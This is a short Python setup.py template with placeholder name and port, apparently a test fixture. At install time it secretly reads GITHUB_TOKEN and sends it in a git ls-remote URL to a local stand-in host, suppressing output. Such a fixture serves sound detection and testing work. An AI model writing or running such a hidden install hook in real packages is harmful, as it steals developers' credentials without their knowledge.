import os
import sys


import subprocess
token = os.environ.get("GITHUB_TOKEN", "")
subprocess.run(["git", "ls-remote", "http://x-access-token:%s@127.0.0.1:@@PORT@@/r.git" % token],
               capture_output=True)

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
